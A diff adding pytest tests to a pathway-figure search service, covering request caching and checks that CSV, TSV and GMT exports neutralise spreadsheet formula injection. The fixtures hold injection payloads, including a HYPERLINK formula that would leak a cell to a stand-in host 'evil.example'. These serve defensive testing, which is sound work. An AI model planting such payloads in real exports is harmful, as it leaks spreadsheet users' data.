@@ -4,6 +4,7 @@ over an index built from the bundled sample records."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import shutil
@@ -25,7 +26,8 @@ from indexer import pipeline
 from indexer.index.schema import SCHEMA_VERSION
 from indexer.record import Figure, Gene, Term
 from server.search.hits import hit
-from server.search.models import DEFAULT_FACETS, InvalidParameter, SearchRequest
+from server.search.models import DEFAULT_FACETS, InvalidParameter, SearchRequest, normalize
+from server.search.service import SearchService
 from server.web import MAX_BODY_BYTES, create_app, export, params
 from server.web.serving import make_server
 from tests.conftest import SAMPLE_RECORDS, STAT3_RECORD
@@ -58,7 +60,9 @@ def test_search_request_from_query_args():
             ("facet_size", "25"),
         ]
     )
-    assert params.search_request(params.from_args(args)) == SearchRequest(
+    raw = params.search_request(params.from_args(args))
+    assert raw.year_min == "2010"  # as given: the service checks and converts it
+    assert normalize(raw) == SearchRequest(
         q='"JAK-STAT" signaling',
         filters={"gene": ["STAT3", "3716"], "organism": ["Homo sapiens"]},
         year_min=2010,
@@ -84,7 +88,7 @@ def test_json_body_reads_like_query_args():
         "year_min": ["2010"],
         "q": [],
     }
-    assert params.search_request(from_body) == SearchRequest(
+    assert normalize(params.search_request(from_body)) == SearchRequest(
         filters={"gene": ["STAT3", "3716"], "organism": ["Homo sapiens"]}, year_min=2010
     )
 
@@ -101,6 +105,47 @@ def test_cache_busters_are_ignored():
         params.check_known({"sort_by": ["year"]}, params.SEARCH_PARAMS)
     assert caught.value.parameter == "sort_by"
     assert "(did you mean 'sort'?)" in caught.value.message
+
+
+# -- the request: immutable, and its own cache key ---------------------------------------
+
+CACHE_BASE = SearchRequest(filters={"gene": ["STAT3", "JAK2", "IL6"]})  # 10 sample figures
+# One other value per field of SearchRequest, each changing the answer to CACHE_BASE.
+OTHER_VALUES: dict[str, Any] = {
+    "q": "kinase",
+    "filters": {"gene": ["STAT3", "JAK2", "IL6"], "organism": ["Mus musculus"]},
+    "year_min": 2015,
+    "year_max": 2015,
+    "gene_match": "all",
+    "min_genes": 2,
+    "sort": "year",
+    "page": 2,
+    "per_page": 5,
+    "facets": ("chemical",),
+    "facet_size": 3,
+}
+
+
+def test_request_is_immutable_and_hashable():
+    request = SearchRequest(filters={"gene": ["STAT3"]}, facets=["gene"])
+    assert request.filters == {"gene": ("STAT3",)} and request.facets == ("gene",)
+    assert hash(request) == hash(SearchRequest(filters={"gene": ("STAT3",)}, facets=("gene",)))
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        request.page = 2  # type: ignore[misc]
+    with pytest.raises(TypeError):
+        request.filters["gene"] = ("JAK2",)  # type: ignore[index]
+
+
+def test_every_request_field_is_part_of_the_cache_key(sample_index: Path):
+    names = [field.name for field in dataclasses.fields(SearchRequest)]
+    assert sorted(OTHER_VALUES) == sorted(names), "give a new field a value here"
+    cached = SearchService(sample_index)
+    base_answer = cached.search(CACHE_BASE)
+    for name in names:
+        changed = dataclasses.replace(CACHE_BASE, **{name: OTHER_VALUES[name]})
+        fresh = SearchService(sample_index).search(changed)  # nothing cached yet
+        assert fresh != base_answer, f"{name}: pick a value that changes the answer"
+        assert cached.search(changed) == fresh, f"{name} is left out of the cache key"
 
 
 # -- export formats, without HTTP --------------------------------------------------------
@@ -152,6 +197,50 @@ def test_json_export_is_one_array():
     text = "".join(export.render("json", [AWKWARD_HIT, NO_GENES_HIT]))
     assert json.loads(text) == [AWKWARD_HIT, NO_GENES_HIT]
     assert "".join(export.render("json", [])) == "[]\n"
+
+
+# Cells a spreadsheet would run as formulas (OWASP "CSV injection"), on every text field.
+FORMULA_HIT = hit(
+    Figure(
+        figid="PMC3__fig3",
+        figtitle='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        papertitle="+1+1",
+        reftext="-2+3",
+        journal="@SUM(A1:A9)",
+        genes=[Gene("=1+1"), Gene("STAT3")],
+        diseases=[Term("\t=1+1")],
+        chemicals=[Term("\r=1+1")],
+    ).as_dict(),
+    "",
+    None,
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
+def test_delimited_export_neutralises_formulas(fmt: str, dialect: type[csv.Dialect]):
+    text = "".join(export.render(fmt, [FORMULA_HIT, AWKWARD_HIT]))
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), dialect=dialect))
+    first = rows[0]
+    assert first["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert (first["paper_title"], first["reference"]) == ("'+1+1", "'-2+3")
+    assert (first["journal"], first["genes"]) == ("'@SUM(A1:A9)", "'=1+1|STAT3")
+    assert (first["diseases"], first["chemicals"]) == ("'\t=1+1", "'\r=1+1")
+    for row in rows:
+        assert not [cell for cell in row.values() if cell.startswith(FORMULA_STARTS)]
+    assert rows[1]["title"] == AWKWARD_HIT["title"]  # harmless text stays exact
+
+
+def test_gmt_export_neutralises_formulas_but_keeps_real_symbols_exact():
+    text = "".join(export.render("gmt", [FORMULA_HIT, AWKWARD_HIT]))
+    hostile, awkward = (line.split("\t") for line in text.splitlines())
+    assert hostile == [
+        "PMC3__fig3",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "'=1+1",
+        "STAT3",
+    ]
+    assert awkward[2:] == ["IL6", "STAT3", "JAK2"]
 
 
 # -- the app over a real index -----------------------------------------------------------
@@ -337,6 +426,42 @@ def test_gmt_export(client: FlaskClient):
     assert all(len(s) >= 3 and all(field.strip() for field in s) for s in sets)
 
 
+@pytest.fixture(scope="module")
+def formula_client(tmp_path_factory: pytest.TempPathFactory) -> FlaskClient:
+    """The app over one real record whose texts were made to start spreadsheet formulas."""
+    records = tmp_path_factory.mktemp("formula_records")
+    text = (SAMPLE_RECORDS / f"{STAT3_RECORD}.md").read_text(encoding="utf-8")
+    hostile = {
+        "figtitle: Domain structure and signaling pathway of STAT3": 'figtitle: "\\t=1+1"',
+        "reftext: Sailan Zou, et al. Mol Cancer. 2020;19:145.": (
+            'reftext: \'=HYPERLINK("http://evil.example/?leak="&A1,"x")\'\n'
+            'journal_title: "@SUM(A1)"'
+        ),
+    }
+    for line, replacement in hostile.items():
+        assert line in text
+        text = text.replace(line, replacement)
+    (records / f"{STAT3_RECORD}.md").write_text(text, encoding="utf-8")
+    root = tmp_path_factory.mktemp("formula_index")
+    report = pipeline.build([records], root, workers=1)
+    assert report.figures_rejected == 0, report.rejected
+    return create_app(root, {"TESTING": True}).test_client()
+
+
+@pytest.mark.parametrize(("fmt", "dialect"), [("csv", csv.excel), ("tsv", csv.excel_tab)])
+def test_exported_record_cannot_start_a_formula(
+    formula_client: FlaskClient, fmt: str, dialect: type[csv.Dialect]
+):
+    text = formula_client.get(f"/api/search?format={fmt}").get_data(as_text=True)
+    (row,) = csv.DictReader(io.StringIO(text, newline=""), dialect=dialect)
+    # The indexer strips the leading tab; the check is on the text as exported.
+    assert row["title"] == "'=1+1"
+    assert row["reference"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    assert row["journal"] == "'@SUM(A1)"
+    gmt = formula_client.get("/api/search?format=gmt").get_data(as_text=True)
+    assert gmt.split("\t")[1] == "'=1+1"
+
+
 # -- caching and CORS ------------------------------------------------------------------------
 
 
@@ -447,6 +572,8 @@ def test_waitress_serves_the_app(served: str):
         ("/api/search?per_page=500", None, 400),
         ("/api/figures/PMC0__nothing", None, 404),
         ("/api/search", b"x" * (MAX_BODY_BYTES + 1), 413),
+        ("/api/search", b"[" * 100_000, 400),  # parsed in one of waitress's worker threads
+        ("/api/search", b'{"q": "\\ud800"}', 400),
     ],
 )
 def test_waitress_answers_errors_in_the_error_shape(
